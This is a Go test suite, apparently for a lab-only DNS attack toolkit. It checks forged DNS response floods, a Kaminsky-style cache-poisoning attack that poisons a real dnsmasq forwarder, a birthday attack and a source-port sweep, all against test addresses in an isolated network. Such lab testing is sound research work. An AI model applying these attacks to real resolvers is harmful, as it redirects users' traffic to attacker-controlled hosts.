//go:build lab

package inject

import (
	"errors"
	"net/netip"
	"os/exec"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// spoofed is what arrived of a flood.
type spoofed struct {
	src  string
	port uint16
	id   uint16
}

func TestFlood(t *testing.T) {
	leaves(t)
	h := newHub(t)
	for _, v := range []struct {
		name  string
		c     FloodConfig
		want  []spoofed // but for the ID
		fixed bool
	}{
		{
			"any ID", FloodConfig{Servers: addrs("198.18.11.1"), Client: netip.MustParseAddr(victimAddr)},
			[]spoofed{{"198.18.11.1", 40000, 0}, {"198.18.11.1", 40000, 0}, {"198.18.11.1", 40000, 0}}, false,
		},
		{
			"fixed ID, any source", FloodConfig{Servers: addrs("198.18.11.1", "198.18.12.1"), Client: netip.MustParseAddr(victimAddr), FixedID: true, ID: 7},
			[]spoofed{{"198.18.11.1", 40000, 7}, {"198.18.12.1", 40000, 7}, {"198.18.11.1", 40000, 7}}, true,
		},
		{
			"many ports, IPv6", FloodConfig{Servers: addrs("2001:db8::1"), Client: netip.MustParseAddr(victimAddr6), Ports: 2},
			[]spoofed{{"2001:db8::1", 40000, 0}, {"2001:db8::1", 40001, 0}, {"2001:db8::1", 40000, 0}}, false,
		},
	} {
		t.Run(v.name, func(t *testing.T) {
			tap := h.tap(t)
			v.c.Name, v.c.Answers, v.c.TTL, v.c.Port, v.c.Count, v.c.Rate = "www.shop.lab", addrs("198.18.66.66", "2001:db8::66"), 86400, 40000, len(v.want), 100
			began := time.Now()
			i, err := Flood(h.attacker, v.c)
			i = end(t, i, err)
			var got []spoofed
			ids := map[uint16]bool{}
			for range v.want {
				p := tap.next("forged", from(53))
				m := message(t, p)
				s := spoofed{p.NetworkLayer().NetworkFlow().Src().String(), uint16(p.TransportLayer().(*layers.UDP).DstPort), m.Id}
				ids[m.Id] = true
				if !v.fixed {
					s.id = 0
				}
				got = append(got, s)
				same(t, "answer", []string{"198.18.66.66"}, says(m))
				same(t, "flags", dns.MsgHdr{Id: m.Id, Response: true, Authoritative: true}, m.MsgHdr)
			}
			if d := cmp.Diff(v.want, got, cmp.AllowUnexported(spoofed{})); d != "" {
				t.Error(d)
			}
			same(t, "one ID", v.fixed, len(ids) == 1)
			same(t, "wait", nil, i.Wait())
			same(t, "count", len(v.want), i.Count())
			// Never faster than its rate, but for the millisecond that a pace
			// saves up. Counted from before the flood: its first packet may be late.
			if took := time.Since(began); took < 19*time.Millisecond {
				t.Errorf("3 packets at 100 a second took %v", took)
			}
		})
	}
	for name, c := range map[string]FloodConfig{
		"no source":           {Client: netip.MustParseAddr(victimAddr)},
		"no destination":      {Servers: addrs("198.18.11.1")},
		"a name that is none": {Servers: addrs("198.18.11.1"), Client: netip.MustParseAddr(victimAddr), Name: "a..b"},
	} {
		if _, err := Flood(h.attacker, c); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

// What stops a flood before its end is no error; what the kernel refuses is.
func TestFloodEnds(t *testing.T) {
	leaves(t)
	h := newHub(t)
	c := FloodConfig{Servers: addrs("198.18.11.1"), Client: netip.MustParseAddr(victimAddr), Name: "www.shop.lab", Rate: 1}
	i, err := Flood(h.attacker, c)
	if err != nil {
		t.Fatal(err)
	}
	same(t, "stopped", nil, i.Stop())
	if n := i.Count(); n > 1 {
		t.Errorf("%d packets before it was stopped", n)
	}
	run(t, h.attacker, "ip link set eth0 down")
	if i, err = Flood(h.attacker, c); err != nil {
		t.Fatal(err)
	}
	err = i.Wait()
	same(t, "without a route", []any{true, err, 0, true}, []any{errors.Is(err, unix.ENETUNREACH), i.Err(), i.Count(), i.First().IsZero()},
		cmpopts.EquateErrors())
}

func TestShuffled(t *testing.T) {
	ids, seen := shuffled(), map[uint16]bool{}
	for n := range 1 << 16 {
		seen[ids(n)] = true
	}
	same(t, "all IDs", 1<<16, len(seen))
}

// dnsmasq starts a forwarder of the victim that asks the server from one port.
func (h hub) dnsmasq(t *testing.T, options ...string) {
	t.Helper()
	cmd := exec.Command("dnsmasq", append([]string{
		"--keep-in-foreground", "--conf-file=/dev/null", "--pid-file=", "--user=root", "--no-resolv", "--no-hosts",
		"--bind-interfaces", "--listen-address=" + victimAddr, "--server=" + serverAddr, "--query-port=33333",
	}, options...)...)
	if err := h.victim(cmd.Start); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	for range 100 {
		if h.victim(func() error { return exec.Command("sh", "-c", "ss -Hlun | grep -q :53").Run() }) == nil {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatal("dnsmasq does not listen")
}

// A real forwarder with a fixed port believes the blind attacker.
func TestKaminskyPoisons(t *testing.T) {
	leaves(t)
	h := newHub(t)
	s, err := Serve(h.server, netip.MustParseAddrPort(serverAddr+":53"), Silent)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Stop)
	h.dnsmasq(t)
	i, err := Kaminsky(h.attacker, KaminskyConfig{
		Resolver: netip.MustParseAddr(victimAddr), Port: 33333, Server: netip.MustParseAddr(serverAddr),
		Name: "www.shop.lab", Address: netip.MustParseAddr("198.18.66.66"), TTL: 86400, Rounds: 2, Rate: 25_000,
	})
	i = end(t, i, err)
	same(t, "wait", nil, i.Wait())
	same(t, "count", 2<<16, i.Count())
	same(t, "cached", []string{"198.18.66.66"}, says(h.ask(t, victimAddr, new(dns.Msg).SetQuestion("www.shop.lab.", dns.TypeA), 1)[0]))
}

func TestKaminskyRandomLabels(t *testing.T) {
	leaves(t)
	h := newHub(t)
	s, err := Serve(h.victim, netip.MustParseAddrPort(victimAddr+":53"), Silent)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Stop)
	tap := h.tap(t)
	i, err := Kaminsky(h.attacker, KaminskyConfig{
		Resolver: netip.MustParseAddr(victimAddr), Port: 33333, Server: netip.MustParseAddr(serverAddr),
		Zone: "shop.lab", NS: "ns9.shop.lab", Address: netip.MustParseAddr("198.18.66.66"), TTL: 86400, Rounds: 2, IDs: 2, Rate: 1000,
	})
	end(t, i, err)
	names := map[string]int{}
	for range 2 {
		asked := message(t, tap.next("query", to(53))).Question[0].Name
		for range 2 {
			m := message(t, tap.next("forged", from(53)))
			names[m.Question[0].Name]++
			same(t, "name", asked, m.Question[0].Name)
			same(t, "records", []string{
				"shop.lab.\t86400\tIN\tNS\tns9.shop.lab.", "ns9.shop.lab.\t86400\tIN\tA\t198.18.66.66",
			}, []string{m.Ns[0].String(), m.Extra[0].String()})
		}
	}
	same(t, "two labels", 2, len(names))
}

func TestBirthday(t *testing.T) {
	leaves(t)
	h := newHub(t)
	s, err := Serve(h.victim, netip.MustParseAddrPort(victimAddr+":53"), Silent)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Stop)
	tap := h.tap(t)
	i, err := Birthday(h.attacker, BirthdayConfig{
		Resolver: netip.MustParseAddr(victimAddr), Server: netip.MustParseAddr(serverAddr), Name: "www.shop.lab", Address: netip.MustParseAddr("198.18.66.66"),
		Queries: 3, ID: 77, Port: 33333, Ports: 2, Count: 4,
	})
	end(t, i, err)
	subnets := map[string]bool{}
	for range 3 {
		m := message(t, tap.next("query", to(53)))
		subnets[m.IsEdns0().Option[0].String()] = true
	}
	same(t, "subnets", map[string]bool{"198.19.0.0/24/0": true, "198.19.1.0/24/0": true, "198.19.2.0/24/0": true}, subnets)
	for n := range 4 {
		p := tap.next("forged", from(53))
		same(t, "ID", 77, message(t, p).Id)
		same(t, "port", layers.UDPPort(33333+n%2), p.TransportLayer().(*layers.UDP).DstPort)
	}
}

func TestSweep(t *testing.T) {
	leaves(t)
	h := newHub(t)
	tap := h.tap(t)
	began := time.Now()
	i, err := Sweep(h.attacker, SweepConfig{
		Server: netip.MustParseAddr("198.18.11.1"), Client: netip.MustParseAddr(victimAddr), First: 65000, Bursts: 11, Own: netip.MustParseAddr(attackerAddr),
	})
	i = end(t, i, err)
	sources, ports := map[string]int{}, map[layers.UDPPort]int{}
	for range 11 * 51 {
		p := tap.next("probe", from(53))
		sources[p.NetworkLayer().NetworkFlow().Src().String()]++
		ports[p.TransportLayer().(*layers.UDP).DstPort]++
		same(t, "payload", 0, len(p.TransportLayer().LayerPayload()))
	}
	same(t, "sources", map[string]int{"198.18.11.1": 550, attackerAddr: 11}, sources)
	// Ports 65000 to 65535, fourteen of them twice, and port 1.
	same(t, "ports", []int{537, 2, 1, 11}, []int{len(ports), ports[65013], ports[65014], ports[1]})
	if took := time.Since(began); took < 200*time.Millisecond {
		t.Errorf("11 bursts took %v", took)
	}
	same(t, "wait", nil, i.Wait())
	same(t, "count", 11*51, i.Count())
}

// to is a filter for UDP to a port.
func to(port layers.UDPPort) func(gopacket.Packet) bool {
	return func(p gopacket.Packet) bool {
		udp, ok := p.Layer(layers.LayerTypeUDP).(*layers.UDP)
		return ok && udp.DstPort == port && udp.SrcPort != 53
	}
}
